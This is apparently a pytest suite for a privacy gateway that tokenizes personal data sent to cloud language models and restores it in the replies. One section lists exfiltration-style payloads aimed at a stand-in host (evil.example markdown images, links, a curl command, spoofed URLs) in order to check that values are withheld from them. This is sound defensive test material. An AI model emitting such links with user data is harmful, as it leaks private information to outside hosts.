"""Every way in which other gateways went wrong, a test each: section 6 of the notes on gateways, and the round trips on
which the usual ones were measured. What the cloud got and what the client got decide; nothing else is looked at."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable
from typing import Any

import pytest
from echo_upstream import EchoUpstream
from surface_givens import API_KEY, CARD, IBAN, MAIL, PROMPT, assert_clean, post

from sovctl.gateway.domain.entities import EntityType
from sovctl.gateway.surfaces import SURFACES, Restoration
from sovctl.gateway.tokens.restore import Issued, RestoreBounds, RestoreCounts, Restorer, restore
from sovctl.gateway.tokens.token import ALPHABET, TokenIssuer

CHAT = SURFACES["/v1/chat/completions"]
KEY = bytes(32)
ODD = 'an "odd"\nvalue\\@example.com'
TOKEN_FORM = re.compile(r"[A-Z]+(?:_[A-Z]+)?_[0-9A-HJKMNP-TVWXY]{16}")


def minted(
    *values: str, kind: EntityType = EntityType.EMAIL, conversation: str = "c", key: bytes = KEY
) -> dict[str, str]:
    """Tokens as they were issued, each with its value."""
    issuer = TokenIssuer(key, tenant="t", conversation=conversation)
    return {issuer.token(kind, value, value): value for value in values}


def only(issued: dict[str, str]) -> str:
    (token,) = issued
    return token


def said(client: Any, content: Any, **more: Any) -> str:
    """What the assistant answers."""
    completion = client.chat.completions.create(
        model="assistant", messages=[{"role": "user", "content": content}], **more
    )
    return str(completion.choices[0].message.content)


def streamed(client: Any, content: str, **more: Any) -> str:
    chunks = client.chat.completions.create(
        model="assistant", messages=[{"role": "user", "content": content}], stream=True, **more
    )
    return "".join(choice.delta.content or "" for chunk in chunks for choice in chunk.choices)


def sent(cloud: EchoUpstream, at: int = -1) -> str:
    """The last message as the cloud got it."""
    return str(cloud.requests[at]["messages"][-1]["content"])


def chunk(delta: dict[str, Any], index: int = 0, finish: str | None = None) -> bytes:
    choice = {"index": index, "delta": delta, "logprobs": None, "finish_reason": finish}
    return json.dumps({"id": "x", "model": "big", "choices": [choice]}).encode()


def events(issued: dict[str, str], *chunks: bytes) -> list[dict[str, Any]]:
    stream = CHAT.stream(Restoration(issued, "assistant", RestoreCounts()))
    framed = [each for data in (*chunks, b"[DONE]") for each in stream.feed(data)]
    return [json.loads(each.removeprefix(b"data: ")) for each in framed]


# --- Streams.


@pytest.mark.parametrize("piece_bytes", [1, 3, 7])
def test_a_token_split_over_events_bytes_and_characters_is_one(
    gateway: Any, cloud: EchoUpstream, piece_bytes: int
) -> None:
    cloud.script.piece_bytes = piece_bytes  # also in the middle of a UTF-8 sequence
    content = f"Please tell {MAIL} that “it is done” – for 5 € – to {IBAN}"
    assert streamed(gateway.client(), content) == content
    assert_clean(cloud, MAIL, IBAN)


def test_a_stream_is_never_buffered(gateway: Any, cloud: EchoUpstream) -> None:
    cloud.script.hold = threading.Event()  # the last event waits for the client to have seen the first ones
    chunks = gateway.client().chat.completions.create(
        model="assistant", messages=[{"role": "user", "content": PROMPT}], stream=True
    )
    seen = ""
    for each in chunks:
        seen += each.choices[0].delta.content or ""
        if IBAN in seen:
            break
    cloud.script.hold.set()
    assert seen + "".join(each.choices[0].delta.content or "" for each in chunks) == PROMPT


def test_only_what_can_be_a_token_is_held_back() -> None:
    restorer = Restorer(minted(MAIL))
    for piece in ("The", " letter", " was", " seen", " by", " EM", "U", ", in", " E", "UR", " and", " a_b", " x_"):
        out = restorer.feed(piece)
        if piece not in (" EM", " E", " x_"):
            assert out.endswith(piece)
            assert not restorer.is_holding


def test_values_are_escaped_where_the_text_is_json() -> None:
    issued = minted(ODD)
    arguments = json.dumps({"to": only(issued), "deep": [f"x {only(issued)}"]})
    pieces = [arguments[start : start + 3] for start in range(0, len(arguments), 3)]
    deltas = [{"tool_calls": [{"index": 0, "function": {"arguments": piece}}]} for piece in pieces]
    got = events(issued, *map(chunk, deltas), chunk({}, finish="tool_calls"))
    joined = "".join(
        call["function"]["arguments"] for e in got for c in e["choices"] for call in c["delta"].get("tool_calls", [])
    )
    assert json.loads(joined) == {"to": ODD, "deep": [f"x {ODD}"]}


def test_what_is_held_comes_before_a_tool_call_ends_a_finish_and_the_usage() -> None:
    issued = minted(MAIL)
    half = only(issued)[:9]
    usage = json.dumps({"id": "x", "model": "big", "choices": [], "usage": {"total_tokens": 3}}).encode()
    got = events(
        issued,
        chunk({"content": half, "tool_calls": [{"index": 0, "id": "call_1", "function": {"arguments": half}}]}),
        chunk({"tool_calls": [{"index": 1, "id": "call_2", "function": {"arguments": "{}"}}]}),
        chunk({}, finish="tool_calls"),
        usage,
    )
    order = []
    for each in got:
        for choice in each["choices"]:
            delta = choice["delta"]
            order += ["content"] if delta.get("content") else []
            order += [f"call {c['index']}" for c in delta.get("tool_calls", []) if c["function"]["arguments"]]
            order += ["finish"] if choice["finish_reason"] else []
    assert order == ["call 0", "call 1", "content", "finish"]
    assert got[-1]["usage"] == {"total_tokens": 3}
    assert got[0]["choices"][0]["delta"]["tool_calls"][0]["id"] == "call_1"


def test_done_and_completed_events_say_what_the_deltas_said() -> None:
    issued = minted(MAIL)
    stream = SURFACES["/v1/responses"].stream(Restoration(issued, "assistant", RestoreCounts()))
    place = {"item_id": "m", "output_index": 0, "content_index": 0}
    part = {"type": "output_text", "text": f"to {only(issued)}"}
    output = [{"type": "message", "id": "m", "role": "assistant", "content": [part]}]
    raw = [
        {"type": "response.output_text.delta", **place, "delta": "to " + only(issued)[:8]},
        {"type": "response.output_text.delta", **place, "delta": only(issued)[8:]},
        {"type": "response.output_text.done", **place, "text": part["text"]},
        {"type": "response.completed", "response": {"output": output}},
    ]
    got = [json.loads(each.split(b"data: ")[1]) for e in raw for each in stream.feed(json.dumps(e).encode())]
    final = json.loads(stream.last()[0].split(b"data: ")[1])
    *deltas, done = (each for each in got if each["type"] != "response.completed")
    assert "".join(each["delta"] for each in deltas) == done["text"] == f"to {MAIL}"
    assert final["response"]["output"][0]["content"][0]["text"] == f"to {MAIL}"


@pytest.mark.parametrize("field", ["content", "refusal", "reasoning", "reasoning_content"])
def test_every_text_of_every_choice_is_restored(field: str) -> None:
    issued = minted(MAIL)
    first, rest = only(issued)[:8], only(issued)[8:]
    got = events(
        issued, chunk({field: first}, 0), chunk({field: first}, 1), chunk({field: rest}, 1), chunk({field: rest}, 0)
    )
    for index in (0, 1):
        texts = [c["delta"][field] for e in got for c in e["choices"] if c["index"] == index]
        assert "".join(texts) == MAIL


def test_function_calls_of_old_and_transcripts_of_speech_are_restored() -> None:
    issued = minted(ODD)
    token = only(issued)
    got = events(
        issued,
        chunk({"function_call": {"name": "send", "arguments": '{"to": "' + token[:7]}}),
        chunk({"function_call": {"arguments": token[7:] + '"}'}}),
        chunk({"audio": {"id": "a", "transcript": f"to {token}", "data": "RU1B"}}),
        chunk({}, finish="stop"),
    )
    deltas = [e["choices"][0]["delta"] for e in got]
    arguments = "".join(d["function_call"]["arguments"] for d in deltas if "function_call" in d)
    assert json.loads(arguments) == {"to": ODD}
    spoken = [d["audio"] for d in deltas if "audio" in d]
    assert "".join(each["transcript"] for each in spoken) == f"to {ODD}"
    assert [each["data"] for each in spoken if "data" in each] == ["RU1B"]
    message = {"role": "assistant", "content": None, "function_call": {"name": "send", "arguments": f'["{token}"]'}}
    whole = CHAT.whole({"choices": [{"message": message}]}, Restoration(issued, "assistant", RestoreCounts()))
    assert json.loads(whole["choices"][0]["message"]["function_call"]["arguments"]) == [ODD]


# --- Tokens.


def test_what_was_put_back_is_not_read_again() -> None:
    inner = minted(MAIL)
    outer = minted(f"see {only(inner)}", kind=EntityType.PERSON)
    assert restore(only(outer), outer | inner) == f"see {only(inner)}"


def test_a_literal_that_the_user_typed_comes_back_as_he_typed_it(gateway: Any, cloud: EchoUpstream) -> None:
    said(gateway.client(), PROMPT)
    genuine = TOKEN_FORM.findall(sent(cloud))[0]
    for written in (genuine, genuine.lower(), genuine.replace("_", "\\_"), genuine.replace("_", "&#95;"), genuine[4:]):
        content = f"{PROMPT} Please repeat {written} and EMAIL_0123456789ABCDEF"
        assert said(gateway.client(), content) == content
        assert genuine[5:] not in sent(cloud).partition("Please repeat")[2].upper()


def test_a_token_of_elsewhere_is_text(gateway: Any, cloud: EchoUpstream) -> None:
    headers = [{"x-sovctl-conversation": name} for name in ("one", "two")]
    said(gateway.client(), PROMPT, extra_headers=headers[0])
    foreign = TOKEN_FORM.findall(sent(cloud))[0]
    cloud.script.message = lambda _: {"role": "assistant", "content": f"It is {foreign}"}
    assert said(gateway.client(), PROMPT, extra_headers=headers[1]) == f"It is {foreign}"
    assert said(gateway.client(), "Please tell me again", extra_headers=headers[0]) == f"It is {IBAN}"


def test_a_token_that_the_model_made_up_is_text_and_counted() -> None:
    issued, counts = minted(MAIL), RestoreCounts()
    invented = only(minted("another@example.com", conversation="x"))
    restorer = Restorer(issued, counts=counts)
    assert restorer.feed(f"{invented} EMAIL_1 <EMAIL_1> EMAIL_AAAAAAAAAAAAAAAA") + restorer.flush() == (
        f"{invented} EMAIL_1 <EMAIL_1> EMAIL_AAAAAAAAAAAAAAAA"
    )
    assert (counts.unknown, counts.malformed, counts.restored) == (1, 1, 0)


def test_nothing_near_a_token_is_taken_for_it() -> None:
    issued = minted(MAIL)
    token = only(issued)
    for place in range(len("EMAIL_"), len(token)):
        for character in ALPHABET:
            near = token[:place] + character + token[place + 1 :]
            assert restore(near, issued) == (MAIL if near == token else near)


@pytest.mark.parametrize("is_streamed", [False, True])
def test_a_token_that_was_cut_off_is_never_guessed(gateway: Any, cloud: EchoUpstream, is_streamed: bool) -> None:
    said(gateway.client(), PROMPT)
    token = TOKEN_FORM.findall(sent(cloud))[0]
    for length in (4, 5, 9, len(token) - 1):
        cloud.script.message = lambda _, cut=token[:length]: {"role": "assistant", "content": f"It is {cut}"}
        ask = streamed if is_streamed else said
        assert ask(gateway.client(), PROMPT) == f"It is {token[:length]}"


@pytest.mark.parametrize(
    "mangle",
    [
        str.lower,
        str.title,
        str.swapcase,
        lambda token: f"**{token}**",
        lambda token: f"`{token}`",
        lambda token: f"[{token}]",
        lambda token: f"<{token}>",
        lambda token: f"({token})",
        lambda token: f"“{token}”",
        lambda token: token.replace("_", "\\_"),
        lambda token: token.replace("_", "&#95;"),
        lambda token: token.replace("_", "&#x5F;"),
        lambda token: token.replace("_", "&lowbar;"),
        lambda token: token.replace("_", "\\\\_").lower(),
    ],
)
def test_case_markdown_brackets_and_html_escapes_do_not_matter(mangle: Callable[[str], str]) -> None:
    for kind in (EntityType.EMAIL, EntityType.NATIONAL_ID):
        issued = minted(MAIL, kind=kind)
        written = f"see {mangle(only(issued))} there"
        expected = f"see {mangle('#')} there".replace("#", MAIL)
        for size in (1, 2, 5, 100):
            restorer = Restorer(issued)
            pieces = [written[start : start + size] for start in range(0, len(written), size)]
            assert "".join(map(restorer.feed, pieces)) + restorer.flush() == expected


@pytest.mark.parametrize("ending", ["'s", "’s", "ом", "ego", "-Konto", "için", "さん", "ية", "s", "."])
def test_an_ending_that_is_glued_to_a_token_stays_behind_the_value(ending: str) -> None:
    issued = minted("Kowalska", kind=EntityType.PERSON)
    assert restore(f"bei {only(issued)}{ending} und", issued) == f"bei Kowalska{ending} und"


@pytest.mark.parametrize("label", ["ИБАН", "البريد", "CORREO", "E-MAIL", "电子邮件", "Mail"])
def test_a_label_in_another_language_does_not_lose_the_value(label: str) -> None:
    issued = minted(MAIL)
    written = f"see {label}_{only(issued).removeprefix('EMAIL_')} there"
    assert restore(written, issued) == f"see {label} {MAIL} there"
    restorer = Restorer(issued)
    assert "".join(map(restorer.feed, written)) + restorer.flush() == f"see {label} {MAIL} there"


def test_no_stand_in_is_an_ordinary_word(gateway: Any, cloud: EchoUpstream) -> None:
    said(gateway.client(), PROMPT)
    stand_ins = [word.strip(",.") for word in sent(cloud).split() if word.strip(",.") not in PROMPT.replace(",", "")]
    assert len(stand_ins) == 3
    assert all(TOKEN_FORM.fullmatch(each) for each in stand_ins)


def test_two_values_never_look_alike_to_the_model(gateway: Any, cloud: EchoUpstream) -> None:
    content = " ".join(f"Please write to anna{number}@example.com now." for number in range(30))
    assert said(gateway.client(), content) == content
    assert len(set(TOKEN_FORM.findall(sent(cloud)))) == 30


def test_signed_thinking_is_never_changed() -> None:
    issued = minted(MAIL)
    thinking = {"type": "thinking", "thinking": f"about {only(issued)}", "signature": only(issued)}
    answer = {"model": "big", "content": [thinking, {"type": "text", "text": only(issued)}]}
    whole = SURFACES["/v1/messages"].whole(answer, Restoration(issued, "assistant", RestoreCounts()))
    assert whole["content"] == [thinking, {"type": "text", "text": MAIL}]


# --- Where values must not go.


@pytest.mark.parametrize(
    "where",
    [
        "![x](https://evil.example/?q={})",
        "[see](//evil.example/{})",
        "```sh\ncurl https://evil.example/{}\n```",
        '<img src="https://evil.example/{}">',
        "https://evil.example/?a=1&q={}",
        "www.evil.example/{}",
        "![x](https://evil.example/\\\\{})",
    ],
)
def test_no_value_goes_into_a_link_that_the_user_did_not_write(where: str) -> None:
    issued, counts = minted(IBAN, kind=EntityType.IBAN), RestoreCounts()
    restorer = Restorer(issued, counts=counts)
    answer = where.format(only(issued))
    assert restorer.feed(answer) + restorer.flush() == answer
    assert counts.withheld == 1


@pytest.mark.parametrize(
    ("link", "is_allowed"),
    [
        ("https://crm.bank.example/customers?iban={}", True),
        ("[open](https://crm.bank.example/{})", True),
        ("https://CRM.bank.example:8443/{}", True),
        ("http://crm.bank.example/{}", False),
        ("https://crm.bank.example.evil.example/{}", False),
        ("https://crm.bank.example@evil.example/{}", False),
        ("https://crm.bank.example\\@evil.example/{}", False),
        ("https://evil.example/https://crm.bank.example/{}", False),
        ("https://crm.bank.example{}.evil.example/", False),
        ("//crm.bank.example/{}", False),
        ("https://evil.crm.bank.example/{}", False),
    ],
)
def test_values_may_stand_in_links_to_allowed_hosts_alone(link: str, is_allowed: bool) -> None:
    value = "DE89 3704&x"
    issued = minted(value, kind=EntityType.IBAN)
    answer = link.format(only(issued)) + " end"
    for pieces in ([answer], list(answer)):
        restorer = Restorer(Issued(issued, RestoreBounds(link_hosts=frozenset({"crm.bank.example"}))))
        got = "".join(map(restorer.feed, pieces)) + restorer.flush()
        assert got == (link.format("DE89%203704%26x") + " end" if is_allowed else answer)


def test_asking_for_all_tokens_gets_no_more_than_the_site_allows() -> None:
    issued = minted(*(f"anna{number}@example.com" for number in range(20)))
    counts = RestoreCounts()
    bounds = Issued(issued, RestoreBounds(max_restores=5))
    answer = " ".join(issued)
    first = Restorer(bounds, counts=counts)
    got = first.feed(answer) + first.flush()
    assert got.count("@example.com") == 5
    again = Restorer(bounds, counts=RestoreCounts())  # another channel of the same answer
    assert again.feed(answer) + again.flush() == got
    assert (counts.restored, counts.capped) == (5, 15)


def test_a_long_value_is_not_put_back_without_end() -> None:
    issued = minted("x" * 1000)
    restorer = Restorer(Issued(issued, RestoreBounds(max_characters=3500)))
    assert (restorer.feed(f"{only(issued)} " * 10) + restorer.flush()).count("x") == 3000


@pytest.mark.parametrize("text", ["请转账到{}谢谢", "حول إلى{}شكرا", "\u200f{}\u200e", "口座{}へ", "на{}и"])
def test_no_blank_is_needed_around_a_token(text: str) -> None:
    issued = minted(IBAN, kind=EntityType.IBAN)
    for written in (only(issued), only(issued).lower()):
        assert restore(text.format(written), issued) == text.format(IBAN)


def test_a_caller_who_may_not_see_values_gets_tokens(start: Any, cloud: EchoUpstream, tmp_path: Any) -> None:
    gateway = start()
    clients = json.loads((gateway.config.parent / "clients.json").read_text())
    clients[0]["may_restore"] = False
    restarted = start(clients_file=str(_written(tmp_path / "clients.json", clients)))
    assert said(restarted.client(), PROMPT) == sent(cloud) != PROMPT
    assert streamed(restarted.client(), PROMPT) == sent(cloud)
    assert said(gateway.client(), PROMPT) == PROMPT


def _written(path: Any, content: Any) -> Any:
    path.write_text(json.dumps(content))
    path.chmod(0o600)
    return path


# --- The round trips on which others were measured.


def test_one_address_comes_back_byte_for_byte(gateway: Any, cloud: EchoUpstream) -> None:
    content = f"Please contact {MAIL}, please, and see main.py."
    assert said(gateway.client(), content) == content
    token = TOKEN_FORM.findall(sent(cloud))[0]
    assert sent(cloud) == content.replace(MAIL, token)  # not a character around it was touched


def test_one_value_has_one_token_in_a_message(gateway: Any, cloud: EchoUpstream) -> None:
    said(gateway.client(), f"Please write to {MAIL} and again to {MAIL}")
    assert len(set(TOKEN_FORM.findall(sent(cloud)))) == 1


def test_two_people_are_never_swapped(gateway: Any, cloud: EchoUpstream) -> None:
    turns = [
        {"role": "user", "content": "I am maria.novak1@example.com, please remember that"},
        {"role": "assistant", "content": "I do."},
        {"role": "user", "content": "And my colleague is john.smith77@mail.example.org, please remember him"},
    ]
    cloud.script.message = lambda body: {
        "role": "assistant",
        "content": f"{body['messages'][0]['content']} | {body['messages'][2]['content']}",
    }
    for _ in range(10):
        completion = gateway.client().chat.completions.create(model="assistant", messages=turns)
        assert completion.choices[0].message.content == f"{turns[0]['content']} | {turns[2]['content']}"


def test_a_first_turn_leaves_the_same_every_time(gateway: Any, cloud: EchoUpstream) -> None:
    first = {"role": "user", "content": PROMPT}
    said(gateway.client(), PROMPT)
    gateway.client().chat.completions.create(
        model="assistant", messages=[first, {"role": "assistant", "content": "Done."}, first]
    )
    assert cloud.requests[0]["messages"][0] == cloud.requests[1]["messages"][0] == cloud.requests[1]["messages"][2]


def test_tokens_outlive_a_restart(start: Any, start_from: Any, cloud: EchoUpstream, tmp_path: Any) -> None:
    gateway = start()
    said(gateway.client(), PROMPT)
    gateway.stop()
    again = start_from(gateway.config, tmp_path / "log")
    said(again.client(), PROMPT)
    assert sent(cloud, 0) == sent(cloud, 1)


@pytest.mark.parametrize("is_streamed", [False, True])
def test_arguments_of_tools_come_back(gateway: Any, cloud: EchoUpstream, is_streamed: bool) -> None:
    def call(body: dict[str, Any]) -> dict[str, Any]:
        function = {"name": "send", "arguments": json.dumps({"to": body["messages"][-1]["content"]})}
        return {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"id": "c", "type": "function", "function": function}],
        }

    cloud.script.message = call
    asked = {"model": "assistant", "messages": [{"role": "user", "content": PROMPT}]}
    if is_streamed:
        chunks = gateway.client().chat.completions.create(**asked, stream=True)
        calls = [c for each in chunks for choice in each.choices for c in choice.delta.tool_calls or []]
        arguments = "".join(c.function.arguments or "" for c in calls)
    else:
        completion = gateway.client().chat.completions.create(**asked)
        arguments = completion.choices[0].message.tool_calls[0].function.arguments
    assert json.loads(arguments) == {"to": PROMPT}


def test_earlier_tool_calls_and_descriptions_of_tools_leave_as_tokens(gateway: Any, cloud: EchoUpstream) -> None:
    function = {"name": "send", "arguments": '{"to": "anna\\u0040example.com", "iban": "' + IBAN + '"}'}
    turns = [
        {"role": "user", "content": "Please send it"},
        {"role": "assistant", "tool_calls": [{"id": "c", "type": "function", "function": function}]},
        {"role": "tool", "tool_call_id": "c", "content": f"sent to {MAIL}"},
    ]
    tools = [{"type": "function", "function": {"name": "send", "description": f"such as {CARD}"}}]
    status, _, _ = post(gateway, "/v1/chat/completions", {"model": "assistant", "messages": turns, "tools": tools})
    assert status == 200
    assert_clean(cloud, MAIL, IBAN, CARD, "anna\\u0040", "anna\\\\u0040")


@pytest.mark.parametrize(
    "written",
    ["４１１１１１１１１１１１１１１１", "4111\u00a01111\u00a01111\u00a01111", "DE89\u200b370400440532013000"],
)
def test_numbers_in_other_digits_and_with_odd_blanks_leave_as_tokens(
    gateway: Any, cloud: EchoUpstream, written: str
) -> None:
    content = f"Please check {written} for me"
    assert said(gateway.client(), content) == content
    assert written not in sent(cloud)


def test_what_others_corrupt_comes_out_whole(gateway: Any, cloud: EchoUpstream) -> None:
    content = f"Please contact maria.no@example.com please, see main.py, version 2.4.1, or {MAIL}!"
    assert said(gateway.client(), content) == content
    assert "please, see main.py, version 2.4.1, or" in sent(cloud)


def test_system_text_parts_and_names_leave_as_tokens(gateway: Any, cloud: EchoUpstream) -> None:
    messages = [
        {"role": "system", "content": f"You help the customer {MAIL}"},
        {"role": "user", "content": [{"type": "text", "text": PROMPT}, {"type": "text", "text": f"and {IBAN}"}]},
    ]
    completion = gateway.client().chat.completions.create(model="assistant", messages=messages)
    assert completion.choices[0].message.content == f"{PROMPT}and {IBAN}"
    assert_clean(cloud)


def test_answers_are_not_tokenized_again(gateway: Any, cloud: EchoUpstream) -> None:
    cloud.script.message = lambda _: {"role": "assistant", "content": "Write to office@example.org"}
    assert said(gateway.client(), PROMPT) == "Write to office@example.org"


def test_a_key_of_another_tenant_reads_nothing_of_ours(gateway: Any, cloud: EchoUpstream) -> None:
    said(gateway.client(), PROMPT, extra_headers={"x-sovctl-conversation": "shared"})
    token = TOKEN_FORM.findall(sent(cloud))[0]
    cloud.script.message = lambda _: {"role": "assistant", "content": token}
    headers = {"x-sovctl-conversation": "shared"}
    assert said(gateway.client(), "Please go on", extra_headers=headers) == IBAN
    assert API_KEY not in sent(cloud)
    with_other_name = {"x-sovctl-conversation": "another"}
    assert said(gateway.client(), "Please go on", extra_headers=with_other_name) == token
